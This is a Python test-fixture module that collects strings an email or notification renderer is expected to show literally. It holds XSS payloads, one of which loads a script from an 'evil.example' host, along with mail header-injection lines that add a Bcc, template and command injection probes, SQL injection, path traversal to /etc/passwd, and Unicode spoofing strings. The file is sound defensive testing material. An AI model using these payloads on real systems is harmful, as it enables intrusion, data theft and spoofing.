"""Texts, by kind, that people or programs may send, and that a mail must show as text."""

# ruff: noqa: E501, RUF001

from __future__ import annotations

from itertools import product

_ALERT = "alert(1)"
_HANDLERS = (
    "onload",
    "onerror",
    "onclick",
    "onmouseover",
    "onfocus",
    "ontoggle",
    "onbegin",
    "onanimationend",
)
_TAGS = (
    "img",
    "svg",
    "body",
    "input",
    "details",
    "iframe",
    "video",
    "marquee",
    "object",
    "math",
    "a",
    "style",
)
_SCHEMES = (
    "javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", "\x01javascript:", "vbscript:", "livescript:",
    "data:text/html,", "data:text/html;base64,", "data:image/svg+xml,", "file:///", "blob:", "filesystem:", "about:",
    "jar:", "view-source:", "feed:javascript:", "ms-its:", "intent:", "x-javascript:", "//", "\\\\", "ftp://", "tel:",
    "sms:", "mailto:", "cid:", "ws://", "chrome://", "resource://",
)  # fmt: skip

HTML = (
    *(f"<{tag} {handler}={_ALERT}>" for tag, handler in product(_TAGS, _HANDLERS[:4])),
    *(f'" {handler}="{_ALERT}' for handler in _HANDLERS),
    *(f"' {handler}='{_ALERT}" for handler in _HANDLERS),
    *(f"x {handler}={_ALERT} y" for handler in _HANDLERS),
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=//evil.example></script>", "<script\n>x",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "<<script>alert(1)//<</script>", "</script><script>alert(1)</script>",
    "<img src=x:x onerror=alert(1)//", "<img/src=x/onerror=alert(1)>", "<svg/onload=alert(1)>", "<svg><script>x</script>",
    '"><img src=x onerror=alert(1)>', "'><svg onload=alert(1)>", "</td></tr></table><h1>x", "</style><script>x</script>",
    "</title><script>x</script>", "</textarea><script>x</script>", "--><script>x</script>", "<!--", "-->", "<!--[if mso]>",
    "<![endif]-->", "<![CDATA[x]]>", "]]>", "<?php echo 1 ?>", "<%= 7*7 %>", "<!DOCTYPE html>", "<!ENTITY x 'y'>",
    "<a href=javascript:alert(1)>x</a>", "<base href=//evil.example>", "<meta http-equiv=refresh content=0>",
    "<link rel=stylesheet href=//evil.example>", "<form action=//evil.example><input name=p>", "<plaintext>", "<xmp>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<math><mtext></table><mglyph><style><img>",
    "&lt;script&gt;", "&amp;lt;b&amp;gt;", "&#60;script&#62;", "&#x3c;script&#x3e;", "&lt", "&", "&&", "&#0;", "&#xD800;",
    "&quot; onclick=&quot;x", "<", ">", "<>", "</>", "< script>", "<\x00script>", "＜script＞", "\u2039script\u203a",
    "{color:red;}</style>", "expression(alert(1))", "url(javascript:alert(1))", "@import '//evil.example';", "`", "\\",
)  # fmt: skip
LINKS = (*(f"{scheme}{_ALERT}" for scheme in _SCHEMES), "https://a.example/\" onclick=\"x", "https://a.example/<b>",
         "https://user:pass@a.example@evil.example/", "https://a.example\\@evil.example", "http://[", "https://xn--/",
         "https://аррӏе.example/", "https://a.example/%0d%0aBcc:x", "https://a.example/?a=1&b=2&copy=3")  # fmt: skip
HEADERS = (
    *(f"x{end}{header}"
    for end in ("\r\n", "\n", "\r", "%0d%0a", "\\r\\n", "\u2028", "\u2029", "\x0b", "\x0c", "\x85")
    for header in ("Bcc: evil@x.example", "Subject: other", "Content-Type: text/html", "\r\n<html>", " folded")),
    "=?utf-8?q?=0D=0ABcc:_evil@x.example?=", "=?utf-8?b?DQpCY2M6IGV2aWxAeC5leGFtcGxl?=", "=?utf-8?q?a?= =?x?y?z?=", "=?",
    ".\r\nQUIT\r\n", "\r\n.\r\n", "From x", ".", "..", '"Ada" <ada@x.example>', "ada@x.example, eve@x.example", "<>", ";,:",
    "(comment)", '\\"', "--boundary", "--=_", "Content-Transfer-Encoding: base64",
)  # fmt: skip
TEMPLATES = (
    "{{7*7}}", "{{ 7*7 }}", "{{ code }}", "{{ recipient.email }}", "{{ ''.__class__ }}", "{% raw %}", "{% endraw %}", "{#", "#}",
    "{% for a in range(9) %}x{% endfor %}", "{% include '/etc/passwd' %}", "{%", "%}", "{{", "}}", "{{}}", "${7*7}", "#{7*7}",
    "<%= 7*7 %>", "@(7*7)", "%(name)s", "%s%s%s%n", "%d", "%", "%%", "%(", "{0}", "{}", "{0.__class__}", "{name}", "$name",
    "$(id)", "`id`", "| id", "; id", "__import__('os')", "%(amount)s", "%%(amount)s",
)  # fmt: skip
MJML = (
    "<mj-text>x</mj-text>", "<mj-raw><script>x</script></mj-raw>", "</mj-text><mj-image src=x />", "</mj-raw>", "<mj-include />",
    "<mj-button href='javascript:x'>", "<mj-style>*{display:none}</mj-style>", "<mjml>", "</mjml>", "<mj-preview>x",
)  # fmt: skip
UNICODE = (
    *(f"a{control}b" for control in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"),
    *(f"a{zero}b" for zero in "\u200b\u200c\u200d\u2060\ufeff\u00ad\u034f\u180e\u115f\u3164\u2800"),
    *(f"a{blank}b" for blank in "\u00a0\u1680\u2000\u2003\u2009\u202f\u205f\u3000"),
    "\u202egnp.exe", "שלום עולם", "مرحبا بالعالم", "שלום hello 123", "日本語", "漢字かな交じり文", "한국어", "ไทย", "हिन्दी",
    "Ω≈ç√∫˜µ≤≥÷", "åß∂ƒ©˙∆˚¬…æ", "😀", "👩‍👩‍👧‍👦", "👍🏽", "🇺🇳", "❤️", "🏴‍☠️", "Z̮̞̠͙͔ͅa̗l̝g͘o", "e\u0301", "é", "a" + "\u0300" * 60, "﷽", "ﬁ", "ß",
    "İ", "ı", "ǆ", "ΐ", "Å", "\ufffd", "\ufffe", "\uffff", "\U0010ffff", "\ue000", "①②③", "𝕬𝖉𝖆", "ａｄａ", "１２３", "٣", "−5", "½",
)  # fmt: skip
CONTROLS = tuple(f"a{chr(code)}b" for code in (*range(0x20), *range(0x7F, 0xA0)))
WORDS = (
    "w" * 60, "w" * 199, "ж" * 199, "語" * 99, "-" * 100, "/" * 100, "a b " * 40, "", " ", "   ", "0", "-0", "NaN", "null", "None",
    "undefined", "true", "[]", "{}", "1e309", "1/0", "0x1F", "1,234.56", "' OR 1=1 --", "'; DROP TABLE notifications; --",
    "../../etc/passwd", "C:\\Windows\\", "/dev/null", "con", "aux", "O'Brien", "Ada & Eve", "Ada < Eve", '"Ada"', "Ada+Eve",
    "a,b", "a;b", "a\\b", "*", "**bold**", "[x](javascript:x)", "_x_", "~", "#1", "@ada", "=1+1", "+1", "-1", "\t", "a\tb",
)  # fmt: skip

STRINGS = tuple(dict.fromkeys((*HTML, *LINKS, *HEADERS, *TEMPLATES, *MJML, *UNICODE, *CONTROLS, *WORDS)))
